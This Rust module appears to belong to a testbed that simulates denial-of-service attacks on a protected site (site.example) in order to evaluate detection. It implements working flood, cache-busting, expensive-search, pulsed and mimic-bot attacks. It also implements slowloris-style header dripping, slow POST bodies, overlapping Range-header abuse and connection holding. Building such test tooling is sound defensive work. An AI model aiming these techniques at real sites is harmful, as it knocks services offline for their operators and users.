//! Attacks of every kind on whatever stands before a site: what each asks for, from how many
//! addresses and over what kind of connection. They run on a thread of their own until they are
//! dropped, and do not slow down where their answers do: a flood does not wait.

use super::address::{Door, Population, Source};
use super::attack::{Beat, ITEMS, bounded, common, dear_search};
use super::browser::Browser;
use super::worker::Worker;
use crate::rng::Rng;
use std::cell::Cell;
use std::io;
use std::rc::Rc;
use std::sync::atomic::Ordering::Relaxed;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until};

/// Requests under way at once: as many as a flood with ten seconds of patience leaves open.
const MOST_OPEN: usize = 6_000;
/// Connections of a siege that holds them open, and how fast they come.
const HELD: u64 = 4_800;
const HELD_PER_S: u64 = 800;
/// Addresses that held connections come from: few enough connections each for any limit.
const HELD_SOURCES: u64 = 600;
/// A pulse, and the pause after it.
const ON_S: u64 = 5;
const OFF_S: u64 = 4;
/// Sources that are loud, and how many requests a second each of them sends.
const LOUD: u64 = 8;
/// Requests a second of one mimic: a fast reader.
const MIMIC_PER_S: f64 = 2.0;

/// One kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Siege {
    /// Pages, one to three from each of tens of thousands of addresses.
    Distributed,
    /// A few addresses, each as fast as it can.
    Loud,
    /// Pages with a query that nobody asked before.
    CacheBusting,
    /// The dearest searches, from some hundred addresses.
    DearSearch,
    /// As distributed, some seconds on, some seconds off.
    Pulses,
    /// Cookies, referrers, a pace like a reader's, and never a part of a page.
    Mimics,
    /// Heads, bodies and answers a byte at a time, and ranges (the kinds of slowhttptest).
    Slow,
    /// Connections that say nothing.
    Idle,
    /// None of our own: the program that is named beside it attacks.
    Other,
}

impl Siege {
    pub const ALL: [Self; 9] = [
        Self::Distributed,
        Self::Loud,
        Self::CacheBusting,
        Self::DearSearch,
        Self::Pulses,
        Self::Mimics,
        Self::Slow,
        Self::Idle,
        Self::Other,
    ];

    /// Its name on the command line and in tables.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Distributed => "distributed",
            Self::Loud => "loud",
            Self::CacheBusting => "cache-busting",
            Self::DearSearch => "dear-search",
            Self::Pulses => "pulses",
            Self::Mimics => "mimics",
            Self::Slow => "slow",
            Self::Idle => "idle",
            Self::Other => "other",
        }
    }

    /// Names that are right for it.
    #[must_use]
    pub fn causes(self) -> &'static [&'static str] {
        match self {
            // Slow readers ask a hundred times at once, to be given much.
            Self::Slow => &["slow-http", "connection-flood", "http-flood"],
            Self::Idle => &["connection-flood", "slow-http"],
            Self::Other => &["http2-abuse"],
            _ => &["http-flood", "cache-busting", "expensive-endpoint"],
        }
    }
}

/// Begins a siege; it ends when it is dropped.
pub(super) fn start(siege: Siege, door: Door, per_s: f64, words: &[String], seed: u64) -> io::Result<Worker> {
    let script = Script { siege, door, per_s: bounded(per_s), words: common(words), seed };
    // What is still under way ends with its thread.
    Worker::start("siege", move |stop| async move {
        let _running = tokio::task::spawn_local(script.run());
        while !stop.load(Relaxed) {
            sleep(Duration::from_millis(20)).await;
        }
    })
}

struct Script {
    siege: Siege,
    door: Door,
    per_s: f64,
    words: Vec<String>,
    seed: u64,
}

impl Script {
    async fn run(self) {
        let mut rng = Rng::new(self.seed ^ 0x0051_E6E0);
        match self.siege {
            Siege::Distributed | Siege::Pulses => self.flood(&mut rng, 40_000).await,
            Siege::CacheBusting => self.flood(&mut rng, 20_000).await,
            Siege::DearSearch => self.flood(&mut rng, 300).await,
            Siege::Loud => self.loud().await,
            Siege::Mimics => self.mimics().await,
            Siege::Slow => self.hold(&mut rng, true).await,
            Siege::Idle => self.hold(&mut rng, false).await,
            Siege::Other => std::future::pending().await,
        }
    }

    fn path(&self, rng: &mut Rng) -> String {
        let item = rng.below(ITEMS);
        match self.siege {
            Siege::CacheBusting => format!("/item/{item}?r={:x}", rng.next() >> 20),
            Siege::DearSearch => dear_search(&self.words, rng),
            _ => format!("/item/{item}"),
        }
    }

    async fn flood(&self, rng: &mut Rng, sources: u64) {
        let (begun, mut beat) = (Instant::now(), Beat::every(1.0 / self.per_s));
        let mut all = JoinSet::new();
        loop {
            beat.wait().await;
            while all.try_join_next().is_some() {}
            let is_off = self.siege == Siege::Pulses && begun.elapsed().as_secs() % (ON_S + OFF_S) >= ON_S;
            if is_off || all.len() >= MOST_OPEN {
                continue;
            }
            let source = Source::among(rng, self.seed, Population::Attackers, sources);
            let mut browser = Browser::new(source, rng.next());
            let (door, path) = (self.door, self.path(rng));
            all.spawn_local(async move { browser.ask(door, "GET", &path, "").await.is_some() });
        }
    }

    async fn loud(&self) {
        let mut all = JoinSet::new();
        for number in 0..LOUD {
            let source = Source::new(self.seed, Population::Attackers, number);
            let step_s = LOUD as f64 / self.per_s;
            let (door, mut rng) = (self.door, Rng::new(self.seed ^ number));
            let open = Rc::new(Cell::new(0));
            all.spawn_local(async move {
                let (mut beat, mut asked) = (Beat::every(step_s), JoinSet::new());
                loop {
                    beat.wait().await;
                    while asked.try_join_next().is_some() {}
                    // As many connections as a script holds.
                    if open.get() >= 100 {
                        continue;
                    }
                    open.set(open.get() + 1);
                    let (open, path) = (Rc::clone(&open), format!("/item/{}", rng.below(ITEMS)));
                    let mut browser = Browser::new(source, number);
                    asked.spawn_local(async move {
                        let _ = browser.ask(door, "GET", &path, "").await;
                        open.set(open.get() - 1);
                    });
                }
            });
        }
        while all.join_next().await.is_some() {}
    }

    async fn mimics(&self) {
        let mut all = JoinSet::new();
        for number in 0..(self.per_s / MIMIC_PER_S) as u64 {
            let source = Source::new(self.seed, Population::Attackers, number);
            let (door, mut rng) = (self.door, Rng::new(self.seed ^ number));
            all.spawn_local(async move {
                let mut browser = Browser::new(source, rng.next());
                let mut referrer = String::new();
                sleep(Duration::from_secs_f64(rng.unit() / MIMIC_PER_S)).await;
                loop {
                    let next = Instant::now() + Duration::from_secs_f64(rng.exponential(1.0 / MIMIC_PER_S));
                    let path = format!("/item/{}", rng.below(ITEMS));
                    let _ = browser.ask(door, "GET", &path, &referrer).await;
                    referrer = format!("https://site.example{path}");
                    sleep_until(next).await;
                }
            });
        }
        while all.join_next().await.is_some() {}
    }

    async fn hold(&self, rng: &mut Rng, is_busy: bool) {
        let mut all = JoinSet::new();
        for number in 0..HELD {
            let source = Source::among(rng, self.seed, Population::Attackers, HELD_SOURCES);
            let (door, kind) = (self.door, if is_busy { number % 4 } else { 4 });
            all.spawn_local(async move {
                loop {
                    // Cut, or refused: it comes back.
                    let _ = held(door, source, kind).await;
                    sleep(Duration::from_secs(1)).await;
                }
            });
            if number % 8 == 0 {
                sleep(Duration::from_secs_f64(8.0 / HELD_PER_S as f64)).await;
            }
        }
        while all.join_next().await.is_some() {}
    }
}

/// Holds one connection for as long as it lasts.
async fn held(door: Door, source: Source, kind: u64) -> io::Result<()> {
    const HOST: &str = "Host: site.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0\r\n";
    let connect = if kind == 3 { door.connect_small(source).await } else { door.connect(source).await };
    let Some(mut stream) = connect else { return Ok(()) };
    match kind {
        0 => drip(&mut stream, &format!("GET /item/7 HTTP/1.1\r\n{HOST}X-Filler: ")).await,
        1 => {
            let head = format!("POST /basket/7 HTTP/1.1\r\n{HOST}Content-Length: 100000\r\n\r\nn=");
            stream.write_all(head.as_bytes()).await?;
            drip(&mut stream, "1").await
        }
        2 => {
            let ranges: Vec<String> = (0..60).map(|n| format!("5-{n}")).collect();
            let head =
                format!("GET /static/7.png HTTP/1.1\r\n{HOST}Range: bytes=0-,{}\r\n\r\n", ranges.join(","));
            loop {
                stream.write_all(head.as_bytes()).await?;
                let until = Instant::now() + Duration::from_secs(5);
                read_until(&mut stream, until).await?;
            }
        }
        3 => {
            let request = format!("GET /static/7.png HTTP/1.1\r\n{HOST}\r\n").repeat(100);
            stream.write_all(request.as_bytes()).await?;
            let mut few = [0; 16];
            while stream.read(&mut few).await? > 0 {
                sleep(Duration::from_secs(1)).await;
            }
            Ok(())
        }
        _ => read_until(&mut stream, Instant::now() + Duration::from_secs(3_600)).await,
    }
}

/// Sends a text and then a byte at a time, until the connection is closed.
async fn drip(stream: &mut tokio::net::TcpStream, text: &str) -> io::Result<()> {
    for byte in text.as_bytes().iter().chain(b"a".iter().cycle()) {
        stream.write_all(&[*byte]).await?;
        read_until(stream, Instant::now() + Duration::from_secs(1)).await?;
    }
    Ok(())
}

/// Reads away what comes; an error when the connection ends.
async fn read_until(stream: &mut tokio::net::TcpStream, until: Instant) -> io::Result<()> {
    let mut scratch = [0; 4_096];
    loop {
        match tokio::time::timeout_at(until, stream.read(&mut scratch)).await {
            Err(_) => return Ok(()),
            Ok(Ok(0)) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(read) => read.map(drop)?,
        }
    }
}
